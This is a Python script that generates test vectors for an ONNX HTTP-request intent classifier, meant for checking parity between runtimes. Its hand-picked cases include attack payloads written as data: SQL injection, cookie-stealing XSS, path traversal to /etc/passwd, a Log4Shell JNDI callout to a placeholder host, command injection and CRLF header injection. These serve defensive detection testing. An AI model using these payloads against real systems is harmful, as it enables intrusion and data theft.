"""Write ``test_vectors.json``: request facts -> features -> probabilities.

Hand-picked cases (every class plus edge cases: empty and whitespace user
agents, invalid escapes, a huge path, raw Unicode, NUL/CRLF, odd rates) and a
few requests sampled from the held-out split. For each case the file holds
the input facts, the feature vector from ``features.py`` and onnxruntime's
output for that vector.

The Rust twin of ``features.py`` must reproduce ``features`` exactly, and any
runtime serving ``intent.onnx`` (tract in the proxy; see ``check_tract.py``)
must reproduce ``probabilities`` within 1e-5.

Numbers are written as the shortest decimal that parses back to the same
float32 (via float64), so ``float32(parse_f64(text))`` is exact.
"""

from __future__ import annotations

import os

for var in ("OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS", "MKL_NUM_THREADS"):
    os.environ.setdefault(var, "1")

import hashlib
import json
import random
import sys

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import features  # noqa: E402
import generate_corpus  # noqa: E402
import train  # noqa: E402

OUT = os.path.join(HERE, "test_vectors.json")
SAMPLE_SEED = 7
SAMPLES_PER_CLASS = 2

CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
          "Chrome/124.0.0.0 Safari/537.36")
CHROME_NAV = ["host", "sec-ch-ua", "sec-ch-ua-mobile", "sec-ch-ua-platform", "upgrade-insecure-requests",
              "user-agent", "accept", "sec-fetch-site", "sec-fetch-mode", "sec-fetch-user",
              "sec-fetch-dest", "referer", "accept-encoding", "accept-language", "cookie"]
THIN = ["host", "user-agent", "accept", "accept-encoding"]


def case(name, label, method, path, query, headers, ua, rate):
    return dict(name=name, label=label, facts=dict(method=method, path=path, query=query,
                                                   header_names=headers, user_agent=ua,
                                                   recent_rate=rate))


HAND_PICKED = [
    case("browse_home_chrome", "browse", "GET", "/", None, CHROME_NAV, CHROME, 0.6),
    case("browse_asset_css", "browse", "GET", "/static/css/app.3f2a9c1e.css", "v=3f2a",
         [h for h in CHROME_NAV if h not in ("upgrade-insecure-requests", "sec-fetch-user")], CHROME, 3.2),
    case("browse_search_apostrophe", "browse", "GET", "/search", "q=O%27Reilly+books&page=2", CHROME_NAV,
         CHROME, 0.9),
    case("purchase_checkout_post", "purchase", "POST", "/checkout/payment", None,
         CHROME_NAV + ["content-type", "content-length", "origin"], CHROME, 0.4),
    case("purchase_cart_item_put_xhr", "purchase", "PUT", "/api/cart/items/42", None,
         ["host", "user-agent", "accept", "content-type", "content-length", "origin", "x-requested-with",
          "sec-fetch-site", "sec-fetch-mode", "sec-fetch-dest", "referer", "accept-encoding",
          "accept-language", "cookie"], CHROME, 0.7),
    case("api_post_orders_python", "api", "POST", "/api/v1/orders", None,
         THIN + ["authorization", "content-type", "content-length", "idempotency-key"],
         "python-requests/2.31.0", 4.5),
    case("api_graphql_get", "api", "GET", "/graphql",
         "query=%7B%20product(id%3A%2042)%20%7B%20name%20price%20%7D%20%7D",
         THIN + ["authorization"], "okhttp/4.12.0", 1.1),
    case("api_cors_preflight", "api", "OPTIONS", "/api/v2/customers/77", None,
         ["host", "user-agent", "accept", "access-control-request-method", "access-control-request-headers",
          "origin", "sec-fetch-mode", "sec-fetch-site", "sec-fetch-dest", "referer", "accept-encoding",
          "accept-language"], CHROME, 1.0),
    case("scraper_listing_python_fast", "scraper", "GET", "/category/shoes", "page=17", THIN,
         "python-requests/2.31.0", 12.0),
    case("scraper_googlebot", "scraper", "GET", "/products/red-shoe", None,
         ["host", "user-agent", "accept", "accept-encoding", "from"],
         "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 0.4),
    case("attack_sqli_sqlmap", "attack", "GET", "/search",
         "q=1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2C%40%40version--%20", THIN,
         "sqlmap/1.7.11#stable (https://sqlmap.org)", 14.0),
    case("attack_xss_raw_browser_ua", "attack", "GET", "/search",
         "q=\"><script>alert(document.cookie)</script>", THIN + ["accept-language"], CHROME, 2.0),
    case("attack_traversal_encoded", "attack", "GET", "/static/..%2f..%2F..%2fetc%2Fpasswd", None,
         ["host", "user-agent"], "curl/8.5.0", 6.0),
    case("attack_log4shell_in_ua", "attack", "GET", "/", None, ["host", "user-agent", "accept"],
         "${jndi:ldap://a1b2c3d4.oast.example/a}", 3.0),
    case("attack_env_probe_no_ua", "attack", "GET", "/.env", None, ["host", "accept"], None, 9.0),
    case("attack_credential_stuffing", "attack", "POST", "/login", None,
         ["host", "user-agent", "accept", "content-type", "content-length"], CHROME, 35.0),
    case("attack_cmd_injection", "attack", "GET", "/ping", "host=127.0.0.1%3Bid%3B",
         THIN, "Go-http-client/1.1", 5.0),
    case("edge_empty_everything", None, "", "", None, [], None, 0.0),
    case("edge_empty_ua_string", None, "GET", "/", "", ["host", "user-agent"], "", 0.2),
    case("edge_whitespace_ua", None, "GET", "/about", None, ["host", "user-agent"], " \t ", 0.2),
    case("edge_invalid_escapes", None, "GET", "/a%zz/%4/%%41/%", "x=%G0&y=%&%2", THIN, "curl/8.5.0", 1.0),
    case("edge_invalid_utf8_escapes", None, "GET", "/%FF%FE/%C3%28", "q=%80%BF+%E2%82", THIN, CHROME, 1.0),
    case("edge_huge_path", None, "GET", "/a" * 6000 + "/x.js", "p=" + "9" * 3000, THIN, CHROME, 1.0),
    case("edge_raw_unicode", None, "GET", "/caf\u00e9/\u65e5\u672c/\u00fc\u00dfer.PNG", "q=\u00f1and\u00fa&\u00e9=1",
         ["Host", "User-Agent", "Accept-Language"], "Mozilla/5.0 (\u00c9dition sp\u00e9ciale) Gecko", 0.3),
    case("edge_nul_and_crlf", None, "GET", "/img%00.jpg", "r=%0d%0aSet-Cookie:x=1\r\n", THIN, CHROME, 1.0),
    case("edge_double_encoded_traversal", None, "GET", "/static/%252e%252e%252f%252e%252e%252fetc%252fpasswd",
         None, THIN, "curl/8.5.0", 1.0),
    case("edge_odd_methods", None, "get", "/", None, THIN, CHROME, 1.0),
    case("edge_propfind", None, "PROPFIND", "/", None, THIN, "Mozilla/5.0 zgrab/0.x", 1.0),
    case("edge_negative_rate", None, "GET", "/", None, THIN, CHROME, -5.0),
    case("edge_huge_rate", None, "GET", "/", None, THIN, CHROME, 1e9),
    case("edge_plus_in_path_and_query", None, "GET", "/c++/a+b", "q=c%2B%2B+primer&lang=en+US", THIN,
         CHROME, 1.0),
    case("edge_header_case_and_duplicates", None, "GET", "/", None,
         ["Cookie", "COOKIE", "Sec-Fetch-Mode", "Referer", "X-Requested-With", "X-API-Key"], CHROME, 1.0),
]


def f32(x: float) -> float:
    return float(np.float32(x))


def sampled_cases():
    rows = generate_corpus.read()
    y = np.array([features.CLASSES.index(r["label"]) for r in rows])
    _, idx_te = train.split_indices(y)
    rng = random.Random(SAMPLE_SEED)
    out = []
    for ci, c in enumerate(features.CLASSES):
        pool = sorted(int(i) for i in idx_te if y[i] == ci)
        for i in rng.sample(pool, SAMPLES_PER_CLASS):
            r = rows[i]
            out.append(case(f"heldout_{c}_row{i}", c, r["method"], r["path"], r["query"], r["header_names"],
                            r["user_agent"], r["recent_rate"]))
    return out


def main() -> None:
    cases = HAND_PICKED + sampled_cases()
    for c in cases:
        c["facts"]["recent_rate"] = f32(c["facts"]["recent_rate"])
    x = features.extract_many([features.RequestFacts(**c["facts"]) for c in cases])
    probs = train.run_onnx(train.MODEL_PATH, x)
    for c, xv, pv in zip(cases, x, probs):
        c["features"] = [float(v) for v in xv]
        c["probabilities"] = [float(v) for v in pv]
        c["predicted"] = features.CLASSES[int(np.argmax(pv))]
    with open(train.MODEL_PATH, "rb") as f:
        digest = hashlib.sha256(f.read()).hexdigest()
    doc = dict(
        description="Request facts -> features.py features -> onnxruntime probabilities of intent.onnx",
        model="intent.onnx", model_sha256=digest, input="features", output="probabilities",
        feature_count=features.FEATURE_COUNT, classes=list(features.CLASSES),
        feature_names=list(features.FEATURE_NAMES), cases=cases,
    )
    with open(OUT, "w", encoding="utf-8") as f:
        json.dump(doc, f, indent=1, ensure_ascii=True)
        f.write("\n")
    wrong = [c["name"] for c in cases if c["label"] and c["label"] != c["predicted"]]
    print(f"wrote {len(cases)} cases to {OUT}; labelled cases predicted differently: {wrong or 'none'}")


if __name__ == "__main__":
    main()
